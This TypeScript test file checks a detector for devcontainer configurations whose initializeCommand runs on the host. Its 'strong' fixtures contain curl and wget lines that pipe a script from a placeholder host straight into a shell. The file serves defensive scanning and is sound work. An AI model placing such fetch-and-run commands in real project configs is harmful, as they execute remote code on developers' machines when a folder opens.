import { testLures } from '../../../test/support/lures.ts';
import detector from './devcontainer-host-command.ts';

const container = (all: object): string => JSON.stringify({ image: 'x', ...all });

testLures(detector, {
  strong: {
    'downloads and runs': {
      '.devcontainer/devcontainer.json': container({ initializeCommand: 'curl -s https://fixture.invalid/a | bash' }),
    },
    'in an object': {
      '.devcontainer.json': container({
        initializeCommand: { a: 'echo', b: ['bash', '-c', 'wget -qO- https://fixture.invalid/a | sh'] },
      }),
    },
  },
  weak: {
    'runs a script': {
      '.devcontainer/devcontainer.json': container({ initializeCommand: 'node .devcontainer/init.js' }),
    },
  },
  silent: {
    'usual preparations': {
      '.devcontainer/devcontainer.json': container({
        initializeCommand:
          'mkdir -p ~/.aws && touch .env && cp -n .env.example .env && docker network create x || true',
        postCreateCommand: 'node scripts/setup.js && npm ci',
      }),
    },
  },
});
